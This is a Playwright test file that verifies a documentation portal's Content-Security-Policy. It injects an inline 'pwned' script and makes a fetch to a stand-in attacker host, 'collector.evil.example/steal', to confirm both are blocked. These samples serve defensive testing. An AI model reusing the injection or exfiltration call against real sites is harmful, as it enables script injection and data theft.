import {expect} from '@playwright/test';

import {hostConfig, watchPolicyViolations} from '../support/host';
import {sendRequestToMock, test} from '../support/mock-api';
import {navbarSearch, waitForHydration} from '../support/pages';

/**
 * Under the production host's Content-Security-Policy, the portal works
 * without a single violation: no inline script without its hash, no eval, no
 * request to an address the policy does not list. Every page's inline
 * scripts are checked against the policy's hashes in Node
 * (tests/build/every-page.test.mjs), and one page of every kind is loaded,
 * scrolled through and watched for violations in page-kinds.spec.ts; here,
 * the policy itself and what readers do beyond reading: search, the API
 * explorer.
 */

test.describe('Content-Security-Policy', () => {
  test('the policy of the build is sent with every page, strict for scripts', async ({page}) => {
    const {contentSecurityPolicy} = hostConfig();
    const response = await page.goto('/docs/docs/intro');
    expect(response?.headers()['content-security-policy']).toBe(contentSecurityPolicy);
    const scriptSrc = /(?:^|; )script-src ([^;]+)/.exec(contentSecurityPolicy)?.[1] ?? '';
    expect(scriptSrc).toContain("'self'");
    expect(scriptSrc).toMatch(/'sha256-[A-Za-z0-9+/]{43}='/);
    expect(scriptSrc).not.toContain("'unsafe-inline'");
    expect(contentSecurityPolicy).not.toContain("'unsafe-eval'");
    expect(contentSecurityPolicy).toContain("frame-ancestors 'none'");
    expect(contentSecurityPolicy).not.toContain('googletagmanager');
  });

  test('an inline script slipped into a page does not run, and the watcher reports it', async ({page}) => {
    const violations = await watchPolicyViolations(page);
    await page.goto('/docs/docs/intro');
    await waitForHydration(page);
    await page.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = 'window.__pwned = true;';
      document.body.append(script);
    });
    expect(await page.evaluate(() => (window as {__pwned?: boolean}).__pwned)).toBeUndefined();
    await expect.poll(() => violations.join('\n')).toContain('script-src');
  });

  test('search works: ctrl+K, a query, its results and the search page', async ({page}) => {
    const violations = await watchPolicyViolations(page);
    await page.goto('/docs/docs/intro');
    await waitForHydration(page);
    await page.keyboard.press('Control+k');
    await expect(navbarSearch(page)).toBeFocused();
    await page.keyboard.type('webhook signature');
    const suggestions = page.locator('.navbar').getByRole('listbox');
    await expect(suggestions.getByRole('option').first()).toBeVisible();
    // The suggestions of "webhook" show while the rest is typed; the link follows the whole query.
    const seeAll = suggestions.getByRole('link', {name: /See all results/});
    await expect(seeAll).toHaveAttribute('href', /[?&]q=webhook(%20|\+)signature(&|$)/);
    await seeAll.click();
    await expect(page).toHaveURL(
      (url) => /^\/search\/?$/.test(url.pathname) && url.searchParams.get('q') === 'webhook signature',
    );
    await expect(page.locator('article a[href*="/docs/"]').first()).toBeVisible();
    // A cold load of the search page fetches the index itself.
    await page.goto('/search?q=order%20state');
    await expect(page.locator('article a[href*="order-state"]').first()).toBeVisible();
    expect(violations).toEqual([]);
  });

  test('the API explorer sends a request to a local mock server and shows the answer', async ({
    page,
    mockApi,
  }) => {
    const violations = await watchPolicyViolations(page);
    await page.goto('/docs/api/outlet-information/get-all-outlets');
    const response = await sendRequestToMock(page, mockApi);
    await expect(response).toContainText('200', {timeout: 20_000});
    await expect(response).toContainText('Warung Sate Pak Budi');
    expect(violations).toEqual([]);
  });

  test('the API explorer may call the sandbox host the description lists', async ({page}) => {
    // Answered here, so nothing leaves the machine: the policy is checked before any request.
    await page.route('https://api.sandbox.gerai.example/**', (route) =>
      route.fulfill({json: {data: []}, headers: {'access-control-allow-origin': '*'}}),
    );
    const violations = await watchPolicyViolations(page);
    await page.goto('/docs/api/outlet-information/get-all-outlets');
    await waitForHydration(page);
    const outcome = await page.evaluate(async () => {
      try {
        const response = await fetch(
          'https://api.sandbox.gerai.example/integrations/partner/v1/linked-outlets',
        );
        return `answered ${response.status}`;
      } catch (error) {
        return (error as Error).name;
      }
    });
    expect(outcome).toBe('answered 200');
    expect(violations).toEqual([]);
  });

  test('a request to a host the policy does not list is refused', async ({page}) => {
    // Were the policy to let it through, the request would be answered here, and the test fail.
    await page.route('https://collector.evil.example/**', (route) =>
      route.fulfill({body: 'sent', headers: {'access-control-allow-origin': '*'}}),
    );
    const violations = await watchPolicyViolations(page);
    await page.goto('/docs/api/outlet-information/get-all-outlets');
    await waitForHydration(page);
    const outcome = await page.evaluate(async () => {
      try {
        await fetch('https://collector.evil.example/steal');
        return 'sent';
      } catch (error) {
        return (error as Error).name;
      }
    });
    expect(outcome).toBe('TypeError');
    await expect.poll(() => violations.join('\n')).toContain('connect-src');
  });
});
